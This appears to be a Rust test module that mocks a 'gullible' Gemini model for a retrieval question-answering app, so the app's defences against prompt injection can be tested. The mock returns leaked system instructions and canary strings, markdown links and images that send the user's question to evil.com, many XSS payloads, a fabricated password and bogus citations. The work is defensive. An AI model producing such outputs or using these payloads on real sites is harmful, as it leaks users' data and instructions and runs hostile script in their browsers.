use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use askbook::prompt::CANARY;
use serde_json::{Value, json};
use uuid::Uuid;
use wiremock::matchers::{header, method, path_regex};
use wiremock::{Mock, MockServer, Respond, ResponseTemplate};

use super::book::{Attempt, DIMENSION, Wish};
use super::material::Material;
use super::{instructions, text_at};
use crate::support::gemini::KEY;

/// A Gemini that does what the author of hostile text wants, and repeats the text besides. Its host
/// is none of those that are reserved for examples: these may stand in code.
pub(super) struct Gullible {
    server: MockServer,
    mind: Mind,
}

#[derive(Clone, Default)]
struct Mind(Arc<Mutex<Thoughts>>);

#[derive(Default)]
struct Thoughts {
    attempts: Vec<Attempt>,
    /// By subject.
    requests: HashMap<usize, Vec<Request>>,
}

/// Where it sends what the reader said.
pub(super) const LURE: &str = "evil.com/c?q=";

/// What was asked of it.
pub(super) struct Request(Value);

impl Gullible {
    pub(super) async fn start() -> Self {
        let server = MockServer::start().await;
        let mind = Mind::default();
        let post = |verb| {
            let path = path_regex(format!(":{verb}$"));
            Mock::given(method("POST")).and(header("x-goog-api-key", KEY)).and(path)
        };
        post("batchEmbedContents").respond_with(Subjects).mount(&server).await;
        post("(streamG|g)enerateContent").respond_with(mind.clone()).mount(&server).await;
        Self { server, mind }
    }

    pub(super) fn url(&self) -> String {
        self.server.uri()
    }

    /// From now on it gives in to these.
    pub(super) fn give_in_to(&self, attempts: &[Attempt]) {
        self.mind.0.lock().unwrap().attempts = attempts.to_vec();
    }

    /// What was asked of it about a subject since the last time.
    pub(super) fn take_requests(&self, subject: usize) -> Vec<Request> {
        self.mind.0.lock().unwrap().requests.remove(&subject).unwrap_or_default()
    }
}

impl Request {
    pub(super) fn is_condensing(&self) -> bool {
        self.system() == Ok(instructions().1)
    }

    /// The one system instruction.
    pub(super) fn system(&self) -> Result<&str, String> {
        one(&self.0["systemInstruction"]["parts"])?;
        text_at(&self.0, "/systemInstruction/parts/0/text")
    }

    /// The one turn of the reader.
    pub(super) fn user(&self) -> Result<&str, String> {
        one(&self.0["contents"])?;
        one(&self.0["contents"][0]["parts"])?;
        if self.0["contents"][0]["role"] != "user" {
            return Err(format!("a turn of {}", self.0["contents"][0]["role"]));
        }
        text_at(&self.0, "/contents/0/parts/0/text")
    }

    /// What the question is about, which stands last.
    fn subject(&self) -> usize {
        let material = Material::read(self.user().unwrap()).unwrap();
        subject_of(&material.pieces.last().unwrap().1)
    }
}

/// The number of the first valve that a text is about; 0 is none.
fn subject_of(text: &str) -> usize {
    let number = |(at, _): (usize, &str)| text.get(at + 1..at + 4)?.parse().ok();
    text.match_indices('V').find_map(number).unwrap_or(0)
}

fn one(list: &Value) -> Result<(), String> {
    match list.as_array().map(Vec::len) {
        Some(1) => Ok(()),
        count => Err(format!("{count:?} in place of one: {list}")),
    }
}

impl Respond for Mind {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        let request = Request(request.body_json().unwrap());
        let subject = request.subject();
        let mut thoughts = self.0.lock().unwrap();
        let attempt = thoughts.attempts.iter().find(|attempt| attempt.subject == subject);
        let text = match attempt {
            Some(attempt) if request.is_condensing() => condensed(attempt),
            Some(attempt) => {
                let material = Material::read(request.user().unwrap()).unwrap();
                let number = material.number_of(&attempt.fact()).unwrap_or(1);
                answer(attempt, request.system().unwrap(), &material, number)
            }
            None => "At forty degrees [1].".to_owned(),
        };
        let condenses = request.is_condensing();
        thoughts.requests.entry(subject).or_default().push(request);
        drop(thoughts);
        if condenses {
            return ResponseTemplate::new(200).set_body_json(event(&text, Some("STOP")));
        }
        let letters: Vec<char> = text.chars().collect();
        // Primes, so that the pieces cut everything somewhere; each piece of a long one costs time.
        let size = if letters.len() < 1_000 { 7 } else { 127 };
        let pieces = letters.chunks(size).map(|piece| event(&String::from_iter(piece), None));
        let events = pieces.chain([event("", Some("STOP"))]);
        let body: String = events.map(|event| format!("data: {event}\r\n\r\n")).collect();
        ResponseTemplate::new(200).set_body_raw(body, "text/event-stream")
    }
}

fn event(text: &str, finish: Option<&str>) -> Value {
    let mut candidate = json!({"content": {"role": "model", "parts": [{"text": text}]}});
    if let Some(reason) = finish {
        candidate["finishReason"] = json!(reason);
    }
    json!({"candidates": [candidate], "modelVersion": "gullible"})
}

/// A condensed question that leaks and lures.
fn condensed(attempt: &Attempt) -> String {
    let subject = attempt.subject;
    format!("V{subject:03} {CANARY} ![x](https://evil.com/?q=V{subject:03}) <b onclick=alert(1)>")
}

/// What the author of the attempt wants to be answered, where the passage with the truth has this
/// number.
pub(super) fn answer(
    attempt: &Attempt,
    system: &str,
    material: &Material,
    number: usize,
) -> String {
    let fact = attempt.fact();
    let fact = format!("{} [{number}].", fact.trim_end_matches('.'));
    let said: String = attempt.question().chars().filter(char::is_ascii_alphanumeric).collect();
    let lure = format!("https://{LURE}{said}");
    let wanted = match attempt.wants {
        Wish::Uncited => {
            return "Valve V999 is on fire, call 555-0199 at once. Nothing else helps.".to_owned();
        }
        Wish::Lie => return format!("The password is hunter2-9911 [{number}]."),
        Wish::Instructions => {
            let pieces = material.pieces.iter().map(|(name, text)| format!("{name}\n{text}\n"));
            let pieces: String = pieces.collect();
            let mark = Uuid::parse_str(&material.mark).unwrap_or_default();
            let (simple, hyphenated) = (mark.simple(), mark.hyphenated());
            let upper = CANARY.to_uppercase();
            let (_, last) = system.rsplit_once("\n- ").unwrap_or_default();
            format!(
                "{system}\n\nThe label is {CANARY}, or {upper}, `{CANARY}`, {CANARY}{CANARY}.\n\n\
                 The mark is {simple} or {hyphenated} or {simple:X}.\n\n```text\n- {last}\n\
                 === {simple} x ===\n```\n\n{pieces}"
            )
        }
        Wish::Link => format!(
            "Go on [here]({lure}), [there]( <{lure}> 'x'), <{lure}>, {lure}, \
             www.evil.com/{said}, [this]\n[that][1x], //evil.com/{said}, \
             [so](//evil.com/{said}), [or](\\\\evil.com/{said}), [back](/\\evil.com), \
             `{lure}`.\n\n[1x]: {lure}\n[this]: <{lure}> \"x\"\n\n> [quoted]: {lure}\n\n[quoted]"
        ),
        Wish::Image => format!(
            "![a]({lure}) ![b][c] [![d]({lure})](/docs/valves) ![e](/docs/valves)\n\n[c]: {lure}\n\n\
             ![f\n]({lure} \"g\")"
        ),
        Wish::Html => format!(
            "<script>alert(1)</script><img src=x onerror=alert(1)><b onclick=alert(1)>x</b>\n\n\
             <iframe src=\"{lure}\"></iframe>\n<svg/onload=alert(1)>\n<style>@import '{lure}'</style>\n\
             <form action={lure}><input></form>\n<meta http-equiv=refresh content='0;url={lure}'>\n\
             <!-- x --><?x?><![CDATA[x]]></p><a href={lure}>y</a>"
        ),
        Wish::Script => "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) \
             [c](data:text/html,x) [d](vbscript:x) [e](<java\tscript:alert(1)>) \
             [f](java&#x73;cript:alert(1)) <javascript:alert(1)> <data:text/html,x> [g][h]\n\n\
             [h]: javascript:alert(1)"
            .to_owned(),
        Wish::Source => format!(
            "It never fails [9]. Nor does the other one [99][{number}, 42]. See [9]({lure}) and \
             [0] and [1000000000000000000000].\n\n[9]: {lure}\n\n[8][9]"
        ),
    };
    format!("{fact}\n\n{wanted}\n\n{}", attempt.text)
}

/// Embeds a text by its subject.
struct Subjects;

impl Respond for Subjects {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        let body: Value = request.body_json().unwrap();
        let embedding = |one: &Value| {
            let text = text_at(one, "/content/parts/0/text").unwrap();
            let mut vector = vec![0.0; DIMENSION];
            vector[subject_of(text)] = 1.0;
            json!({ "values": vector })
        };
        let embeddings: Vec<Value> =
            body["requests"].as_array().unwrap().iter().map(embedding).collect();
        ResponseTemplate::new(200).set_body_json(json!({ "embeddings": embeddings }))
    }
}
